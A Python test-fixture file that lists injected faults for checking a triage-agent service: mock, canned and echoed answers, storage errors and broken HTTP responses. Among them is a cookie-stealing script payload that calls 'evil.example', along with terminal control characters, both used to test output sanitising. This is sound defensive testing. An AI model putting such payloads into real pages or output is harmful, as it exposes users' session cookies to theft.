"""Faults of the answer and of what is kept of it."""

from pytest_goldenpath.reference.fault import NO_ANSWER, Edit, Reply, Select, ill

_FALLBACK = (
    "Fallback triage agent response: Successfully processed '{prompt}' using recovery mechanism"
)
_SORRY = "I apologize, but I am unable to process your request right now. Please try again later."
_ERROR = "Error executing triage agent: WebSocket manager not available for user test-user"
_DEGRADED = "Degraded mode: the triage agent is not available at the moment."
_CANNED = "Most of your cloud bill is compute, so moving idle machines to smaller sizes pays most."
_SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>"
_STORED = "GP-605 GP-602"

FAULTS = (
    ill("mock-answer", "the answer is 'Mock triage agent response for: ...'", "F110", "GP-502",
        NO_ANSWER, "s c r", ("answer.template", "Mock triage agent response for: {prompt}")),
    ill("fallback-answer", "the answer is a fallback sentence", "F110", "GP-502", NO_ANSWER,
        "s c r", ("answer.template", _FALLBACK)),
    ill("canned-answer", "the answer is that of the built-in canned handler", "F59", "GP-502",
        NO_ANSWER, "s c r",
        ("answer.template", "Multi-agent collaboration completed for: {prompt}")),
    ill("degraded-mode-answer", "the answer says that the service is degraded", "F34", "GP-502",
        NO_ANSWER, "s c r",
        ("answer.template", "Degraded mode: the triage agent is not available at the moment.")),
    ill("placeholder-answer", "the answer is 'Task completed'", "F49", "GP-502", NO_ANSWER,
        "s c r", ("answer.template", "Task completed")),
    ill("apology-answer", "the answer is only an apology", "", "GP-502", NO_ANSWER, "s c r",
        ("answer.template", _SORRY)),
    ill("echo-answer", "the answer is the prompt", "F59", "GP-502", NO_ANSWER, "s c r",
        ("answer.template", "{prompt}")),
    ill("error-text-answer", "the answer is the text of an error", "F110", "GP-502", NO_ANSWER,
        "s c r", ("answer.template", _ERROR)),
    ill("wrong-result", "the calculated result is off by one", "", "GP-503", "GP-507", "c",
        ("answer.off_by", 1)),
    ill("marker-missing", "the marker word does not come back", "", "GP-503", "GP-507", "c",
        ("answer.template", "{costs} {sums}")),
    ill("task-ignored", "the answer is about costs only, whatever was asked", "", "GP-503",
        "GP-507", "c", ("answer.template", "{costs} {markers}")),
    ill("cached-answer", "everybody gets the first answer that was ever given", "F77", "GP-503",
        "GP-507 GP-601", "c", ("agent.cached_answer", True)),
    ill("cut-off-answer", "the answer breaks off in the middle of a word", "", "GP-504",
        "GP-501 GP-503 GP-507", "c", ("answer.cut", 0.47)),
    ill("answer-not-stored", "the answer is not kept in the thread", "", "GP-505", _STORED, "c",
        ("store.skip", "assistant")),
    ill("question-not-stored", "the question is not kept in the thread", "", "GP-505", _STORED,
        "c", ("store.skip", "user")),
    ill("answer-stored-twice", "the answer is kept twice", "", "GP-505", "", "c",
        ("store.twice", "assistant")),
    ill("question-stored-late", "the question stands behind the answer", "", "GP-505", "", "c",
        ("store.late_question", True)),
    ill("other-answer-stored", "another text than the answer is kept", "", "GP-505", _STORED, "c",
        ("store.assistant_text", "The conversation was processed by the assistant.")),
    ill("stored-elsewhere", "question and answer are kept in no thread of the user", "", "GP-505",
        _STORED, "c", ("store.elsewhere", True)),
    ill("messages-reversed", "a thread is read back in the wrong order", "", "GP-505", "GP-107",
        "c", ("messages.reversed", True)),
    ill("script-in-answer", "the answer holds a script", "", "GP-506", "", "c",
        ("answer.template", f"{{answer}} {_SCRIPT}")),
    ill("control-characters", "the answer holds terminal control characters", "", "GP-506", "",
        "c", ("answer.template", "{answer} \x1b]0;owned\x07\x1b[31m")),
    ill("script-in-thinking", "a thought holds a script", "", "GP-506", "", "c",
        ("events.edit", Edit(Select("agent_thinking", nth=1),
                             {"reasoning": f"Looking at your request {_SCRIPT}"}))),
    ill("http-agents-mock", "the HTTP agents API answers 'Mock ...' as a success", "F110",
        "GP-507", "", "c r",
        ("http.agents.execute", Reply(
            merge={"response": "Mock triage agent response for: your message"}, only=200))),
    ill("http-agents-anonymous", "the HTTP agents API answers strangers with success", "F75",
        "GP-507", "GP-207", "c r",
        ("http.agents.execute", Reply(
            status=200, only=401,
            replace={"status": "success", "agent": "triage", "response": _ERROR, "error": None}))),
    ill("http-agents-500", "the HTTP agents API answers 500", "F31", "GP-507", "GP-206", "c r",
        ("http.agents.execute", Reply(
            status=500, raw="Internal Server Error", content_type="text/plain", only=200))),
    ill("http-agents-empty", "the HTTP agents API succeeds without a text", "", "GP-507", "",
        "c r", ("http.agents.execute", Reply(merge={"response": ""}, only=200))),
    ill("http-agents-canned", "the HTTP agents API has one good answer for every request", "F59",
        "GP-507", "", "c r",
        ("http.agents.execute", Reply(merge={"response": _CANNED}, only=200))),
    ill("http-agents-degraded", "the HTTP agents API answers 200 in degraded mode", "F110",
        "GP-507", "", "c r",
        ("http.agents.execute", Reply(
            merge={"status": "service_unavailable", "response": _DEGRADED}, only=200))),
    ill("http-agents-missing", "the HTTP agents API is not mounted", "F39", "GP-507", "GP-207",
        "c r", ("http.agents.execute", Reply(status=404, replace={"detail": "Not Found"}))),
)  # fmt: skip
